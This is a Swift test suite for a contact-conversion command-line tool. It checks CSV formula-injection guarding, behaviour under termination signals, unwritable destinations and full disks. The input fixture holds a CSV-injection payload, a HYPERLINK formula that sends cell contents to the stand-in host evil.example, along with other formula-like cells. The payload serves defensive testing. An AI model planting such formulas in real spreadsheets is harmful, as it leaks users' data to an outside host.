import Foundation
import RosterTestSupport
import Testing

#if canImport(Glibc)
  import Glibc
#endif

private let roster = TestSupport.rosterBinary

/// Files in `directory`, to check that no temporary file is left behind.
private func listing(_ directory: URL) throws -> [String] {
  try FileManager.default.contentsOfDirectory(atPath: directory.path).sorted()
}

/// The reference venv's Python (openpyxl), as scripts/test sets it up.
private var referencePython: URL {
  URL(
    fileURLWithPath: ProcessInfo.processInfo.environment["ROSTER_PYTHON"]
      ?? TestSupport.packageRoot.appendingPathComponent(".build-venv/bin/python").path)
}

/// An input whose cells a spreadsheet would run as formulas: three accepted rows, one rejected.
private let formulaInput = """
  Name,Email,Phone,Company
  "=HYPERLINK(""http://evil.example/?""&A1,""click"")",ann@example.com,+44 20 7946 0958,=1+2
  +1 (555) 010-9999,,,"\tTab"
  @SUM(1),,,"\rCR"
  =1+2,bad,,-x

  """

/// Rows of a CSV as Python's csv module reads it, as dictionaries by header.
private func pythonRows(_ csv: Data) throws -> [[String: String]] {
  let script = """
    import csv, io, json, sys
    print(json.dumps(list(csv.DictReader(io.StringIO(sys.stdin.buffer.read().decode('utf-8'), newline='')))))
    """
  let result = try TestSupport.python(script, stdin: csv)
  #expect(result.status == 0, "\(result.stderrText)")
  return try JSONDecoder().decode([[String: String]].self, from: result.stdout)
}

@Suite("Hostile input, end to end")
struct HostileInputTests {
  @Test func csvOutputGuardsFormulaLikeCellsByDefaultAndCountsThemInOneWarning() throws {
    let directory = try TestSupport.temporaryDirectory()
    defer { try? FileManager.default.removeItem(at: directory) }
    let input = directory.appendingPathComponent("in.csv")
    try Data(formulaInput.utf8).write(to: input)
    let rejects = directory.appendingPathComponent("rejects.csv")
    let result = try TestSupport.run(
      roster,
      [
        "convert", input.path, "--to", "csv", "--flatten-metadata", "--rejects", rejects.path, "--report-format",
        "jsonl",
      ]
    )
    #expect(result.status == 0, "\(result.stderrText)")
    let rows = try pythonRows(result.stdout)
    #expect(
      rows.map { $0["name"] } == [
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'+1 (555) 010-9999", "'@SUM(1)",
      ])
    #expect(rows.map { $0["metadata.Company"] } == ["'=1+2", "'\tTab", "'\rCR"])
    // The validated phone is exempt: byte for byte the E.164 number.
    #expect(rows.first?["phone"] == "+442079460958")
    #expect(result.stdoutText.contains(",ann@example.com,+442079460958,,"))
    let warnings = result.stderrText.split(separator: "\n").filter { $0.contains("output.formula_guarded") }
    #expect(warnings.count == 1)
    #expect(warnings.first?.contains("6 CSV cells began with") == true, "\(result.stderrText)")
    #expect(warnings.first?.contains("--formula-guard off") == true)
    // The rejects file holds the input's own bytes, for re-import: no guard there.
    let rejected = try String(contentsOf: rejects, encoding: .utf8)
    #expect(rejected.hasPrefix("Name,Email,Phone,Company,roster_errors\r\n=1+2,bad,,-x,"), "\(rejected)")
  }

  @Test func withTheGuardOffAndInJSONTheCellsAreWrittenAsTheyAre() throws {
    let input = Data(formulaInput.utf8)
    let off = try TestSupport.run(
      roster, ["convert", "--to", "csv", "--flatten-metadata", "--formula-guard", "off", "--report-format", "jsonl"],
      stdin: input)
    #expect(off.status == 0, "\(off.stderrText)")
    let rows = try pythonRows(off.stdout)
    #expect(
      rows.map { $0["name"] } == ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1 (555) 010-9999", "@SUM(1)"])
    #expect(rows.map { $0["metadata.Company"] } == ["=1+2", "\tTab", "\rCR"])
    #expect(!off.stderrText.contains("output.formula_guarded"))

    for format in ["jsonl", "json"] {
      let json = try TestSupport.run(roster, ["convert", "--to", format, "--report-format", "jsonl"], stdin: input)
      #expect(json.status == 0, "\(json.stderrText)")
      #expect(json.stdoutText.contains(#""name":"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")""#))
      #expect(json.stdoutText.contains(#""metadata":{"Company":"\tTab"}"#))
      #expect(!json.stderrText.contains("output.formula_guarded"))
    }

    let bad = try TestSupport.run(roster, ["convert", "--to", "csv", "--formula-guard", "maybe"], stdin: input)
    #expect(bad.status == 2)
    #expect(bad.stderrText.contains("--formula-guard"))
  }

  @Test func xlsxCellsAreTextSoTheGuardDoesNotApply() throws {
    let directory = try TestSupport.temporaryDirectory()
    defer { try? FileManager.default.removeItem(at: directory) }
    let input = directory.appendingPathComponent("in.csv")
    try Data("Name,Phone,Company\n=1+2,+44 20 7946 0958,@SUM(A1)\n-5,,+1\n".utf8).write(to: input)
    let workbook = directory.appendingPathComponent("out.xlsx")
    let result = try TestSupport.run(
      roster, ["convert", input.path, "-o", workbook.path, "--flatten-metadata", "--report-format", "jsonl"])
    #expect(result.status == 0, "\(result.stderrText)")
    #expect(!result.stderrText.contains("output.formula_guarded"))
    let script = """
      import json, sys, openpyxl
      ws = openpyxl.load_workbook(sys.argv[1])['Contacts']
      header = [c.value for c in ws[1]]
      print(json.dumps([{h: [c.value, c.data_type, type(c.value).__name__] for h, c in zip(header, row)}
                        for row in ws.iter_rows(min_row=2)]))
      """
    let read = try TestSupport.run(referencePython, ["-c", script, workbook.path])
    #expect(read.status == 0, "\(read.stderrText)")
    let rows = try JSONSerialization.jsonObject(with: read.stdout) as? [[String: [Any]]] ?? []
    #expect(rows.count == 2)
    // openpyxl gives a formula cell data type "f"; these are strings ("s"), exactly as imported.
    let cells = rows.flatMap { row in [row["name"], row["metadata.Company"]].compactMap { $0 } }
    #expect(cells.map { $0[0] as? String } == ["=1+2", "@SUM(A1)", "-5", "+1"])
    #expect(cells.allSatisfy { $0[1] as? String == "s" && $0[2] as? String == "str" })
    #expect(rows.first?["phone"]?[0] as? String == "+442079460958")
  }

  /// Runs roster on a FIFO that stays open, so it is mid-run with its temporary outputs open, then
  /// sends `signal`; returns the exit status, standard error, and the directory's files afterwards.
  private func signalMidRun(_ signal: Int32, output: String) throws -> (
    status: Int32, stderr: String, files: [String], temporaries: [String], destinations: [String]
  ) {
    let directory = try TestSupport.temporaryDirectory()
    defer { try? FileManager.default.removeItem(at: directory) }
    let temporaryDirectory = directory.appendingPathComponent("tmp")
    try FileManager.default.createDirectory(at: temporaryDirectory, withIntermediateDirectories: false)
    let destinations = [output, "report.json", "rejects.csv"].map { directory.appendingPathComponent($0) }
    for destination in destinations { try Data("previous\n".utf8).write(to: destination) }
    let fifo = directory.appendingPathComponent("input.fifo")
    #expect(mkfifo(fifo.path, 0o600) == 0)
    let process = Process()
    process.executableURL = roster
    process.arguments = [
      "convert", fifo.path, "-o", destinations[0].path, "--report", destinations[1].path, "--report-format", "json",
      "--rejects", destinations[2].path, "--quiet",
    ]
    process.environment = ProcessInfo.processInfo.environment.merging(["TMPDIR": temporaryDirectory.path]) { $1 }
    let errors = Pipe()
    process.standardError = errors
    try process.run()
    let writer = try FileHandle(forWritingTo: fifo)
    // More than the 64 KiB the encoding is detected from, with a rejected row, so rows flow (and the
    // report spools) while the pipe stays open.
    writer.write(Data(("Name,Email\nB,bad\n" + String(repeating: "A,a@b.co\n", count: 8_000)).utf8))
    var waited = 0
    while try listing(directory).filter({ $0.hasSuffix(".roster-tmp") }).count < 3 && waited < 1000 {
      usleep(10_000)
      waited += 1
    }
    #expect(try listing(directory).filter { $0.hasSuffix(".roster-tmp") }.count == 3, "the run never got going")
    kill(process.processIdentifier, signal)
    var exited = 0
    while process.isRunning && exited < 1000 {
      usleep(10_000)
      exited += 1
    }
    if process.isRunning {
      kill(process.processIdentifier, SIGKILL)
      Issue.record("roster ignored signal \(signal)")
    }
    process.waitUntilExit()
    try writer.close()
    let stderr = String(decoding: errors.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
    return (
      process.terminationStatus, stderr, try listing(directory), try listing(temporaryDirectory),
      try destinations.map { try String(contentsOf: $0, encoding: .utf8) }
    )
  }

  @Test(arguments: ["out.jsonl", "out.csv", "out.xlsx"])
  func sigtermMidRunExitsTwoWithAMessageAndLeavesEveryDestinationAsItWas(output: String) throws {
    let run = try signalMidRun(SIGTERM, output: output)
    #expect(run.status == 2)
    #expect(run.stderr == "roster: terminated (SIGTERM); output files were left as they were\n")
    #expect(run.files == ["input.fifo", output, "rejects.csv", "report.json", "tmp"].sorted())
    #expect(run.temporaries == [])
    #expect(run.destinations == ["previous\n", "previous\n", "previous\n"])
  }

  @Test func sighupAndSigintMidRunLeaveEveryDestinationAsItWasToo() throws {
    let hangup = try signalMidRun(SIGHUP, output: "out.jsonl")
    #expect(hangup.status == 2)
    #expect(hangup.stderr == "roster: hung up (SIGHUP); output files were left as they were\n")
    let interrupt = try signalMidRun(SIGINT, output: "out.jsonl")
    #expect(interrupt.status == 2)
    #expect(interrupt.stderr == "roster: interrupted (SIGINT); output files were left as they were\n")
    for run in [hangup, interrupt] {
      #expect(run.files == ["input.fifo", "out.jsonl", "rejects.csv", "report.json", "tmp"])
      #expect(run.temporaries == [])
      #expect(run.destinations == ["previous\n", "previous\n", "previous\n"])
    }
  }

  @Test(arguments: ["-o", "--report", "--rejects"])
  func anUnwritableDestinationIsExitTwoAndTheOthersAreLeftAsTheyWere(flag: String) throws {
    let directory = try TestSupport.temporaryDirectory()
    defer { try? FileManager.default.removeItem(at: directory) }
    let input = TestSupport.fixtures.appendingPathComponent("packagex/contacts.csv").path
    var paths = ["-o": "out.xlsx", "--report": "report.json", "--rejects": "rejects.csv"].mapValues {
      directory.appendingPathComponent($0).path
    }
    for path in paths.values { try Data("previous\n".utf8).write(to: URL(fileURLWithPath: path)) }
    let nowhere = "/nonexistent/dir/" + (flag == "-o" ? "out.xlsx" : "file")
    paths[flag] = nowhere
    let result = try TestSupport.run(
      roster,
      [
        "convert", input, "-o", paths["-o"]!, "--report", paths["--report"]!, "--rejects", paths["--rejects"]!,
        "--quiet",
      ])
    #expect(result.status == 2)
    #expect(result.stderrText.hasPrefix("roster: \(nowhere): cannot write here"), "\(result.stderrText)")
    #expect(result.stderrText.split(separator: "\n").count == 1, "\(result.stderrText)")
    for path in paths.values where path != nowhere {
      #expect(try String(contentsOfFile: path, encoding: .utf8) == "previous\n")
    }
    #expect(try listing(directory).allSatisfy { !$0.hasSuffix(".roster-tmp") })
  }

  @Test(.enabled(if: SmallFilesystem.canMount, "needs root (mount -t tmpfs); the ulimit -f test covers the rest"))
  func aFullFilesystemIsExitTwoWithTheDestinationUntouched() throws {
    let directory = try TestSupport.temporaryDirectory()
    defer { try? FileManager.default.removeItem(at: directory) }
    let input = try writeTwentyThousandContacts(in: directory)
    let disk = directory.appendingPathComponent("disk")
    let filesystem = try SmallFilesystem(at: disk, kilobytes: 64)
    defer { filesystem.unmount() }
    let output = disk.appendingPathComponent("out.jsonl")
    try Data("previous\n".utf8).write(to: output)
    for format in ["jsonl", "csv", "xlsx"] {
      let target = format == "jsonl" ? output : disk.appendingPathComponent("out.\(format)")
      let result = try TestSupport.run(roster, ["convert", input.path, "-o", target.path, "--quiet"])
      #expect(result.status == 2, "\(format)")
      // libxlsxwriter prints its own [ERROR] lines (with the system error) before Roster's last line.
      let last = result.stderrText.split(separator: "\n").last.map(String.init) ?? ""
      #expect(last.hasPrefix("roster: \(target.path): "), "\(format): \(result.stderrText)")
      let reason = format == "xlsx" ? "check the free space beside the destination" : "No space left on device"
      #expect(last.contains(reason), "\(format): \(result.stderrText)")
      #expect(try String(contentsOf: output, encoding: .utf8) == "previous\n")
      #expect(try listing(disk) == ["out.jsonl"], "\(format)")
    }
  }

  /// libxlsxwriter keeps each sheet's rows in a scratch file under TMPDIR and copies it into a second
  /// one when the workbook is closed, without checking those writes: a full scratch directory made a
  /// workbook with its sheets cut short, and exit 0. Both points of failure are exit 2 now, with no
  /// file at the destination: the scratch file filling up as rows are written (a 64 KiB disk), and
  /// the copy at the end (11 MiB: room for the 7.9 MB of rows, not for them twice).
  @Test(
    .enabled(if: SmallFilesystem.canMount, "needs root (mount -t tmpfs)"),
    .disabled(
      if: ProcessInfo.processInfo.environment["ROSTER_SANITIZER"] == "thread",
      "ThreadSanitizer's runtime dies with SIGBUS when TMPDIR is full (as under a file size limit)"))
  func aFullScratchDirectoryIsExitTwoNotACutWorkbook() throws {
    let directory = try TestSupport.temporaryDirectory()
    defer { try? FileManager.default.removeItem(at: directory) }
    let input = try writeTwentyThousandContacts(in: directory)
    let output = directory.appendingPathComponent("out.xlsx")
    for kilobytes in [64, 11_000] {
      let scratch = directory.appendingPathComponent("scratch-\(kilobytes)")
      let filesystem = try SmallFilesystem(at: scratch, kilobytes: kilobytes)
      defer { filesystem.unmount() }
      let result = try TestSupport.run(
        URL(fileURLWithPath: "/usr/bin/env"),
        ["TMPDIR=\(scratch.path)", roster.path, "convert", input.path, "-o", output.path, "--quiet"])
      #expect(result.status == 2, "\(kilobytes) KiB: \(result.stderrText)")
      let reason = kilobytes == 64 ? "scratch file failed: No space left on device" : "came out incomplete"
      #expect(result.stderrText.contains(reason), "\(kilobytes) KiB: \(result.stderrText)")
      #expect(!FileManager.default.fileExists(atPath: output.path))
      #expect(try listing(directory).allSatisfy { !$0.hasSuffix(".roster-tmp") })
    }
    let result = try TestSupport.run(roster, ["convert", input.path, "-o", output.path, "--quiet"])
    #expect(result.status == 0, "\(result.stderrText)")
  }
}

/// A CSV of 20,000 people with names and emails (`big.csv` in `directory`): about 700 KB, 7.9 MB of
/// sheet XML as XLSX.
private func writeTwentyThousandContacts(in directory: URL) throws -> URL {
  let input = directory.appendingPathComponent("big.csv")
  var text = "Name,Email\n"
  for index in 0..<20_000 { text += "Person \(index),person\(index)@example.com\n" }
  try Data(text.utf8).write(to: input)
  return input
}

/// A tmpfs of a few kilobytes, mounted for one test: a real full disk (ENOSPC), not a size limit.
private struct SmallFilesystem {
  let mountPoint: URL

  /// Whether this process may mount a tmpfs (root with CAP_SYS_ADMIN, as in CI's container).
  static let canMount: Bool = {
    guard geteuid() == 0, let directory = try? TestSupport.temporaryDirectory() else { return false }
    defer { try? FileManager.default.removeItem(at: directory) }
    guard let probe = try? SmallFilesystem(at: directory.appendingPathComponent("probe"), kilobytes: 16) else {
      return false
    }
    probe.unmount()
    return true
  }()

  init(at mountPoint: URL, kilobytes: Int) throws {
    try FileManager.default.createDirectory(at: mountPoint, withIntermediateDirectories: true)
    let result = try TestSupport.run(
      URL(fileURLWithPath: "/bin/mount"), ["-t", "tmpfs", "-o", "size=\(kilobytes)k", "tmpfs", mountPoint.path])
    guard result.status == 0 else { throw CocoaError(.fileWriteNoPermission) }
    self.mountPoint = mountPoint
  }

  func unmount() {
    _ = try? TestSupport.run(URL(fileURLWithPath: "/bin/umount"), [mountPoint.path])
  }
}
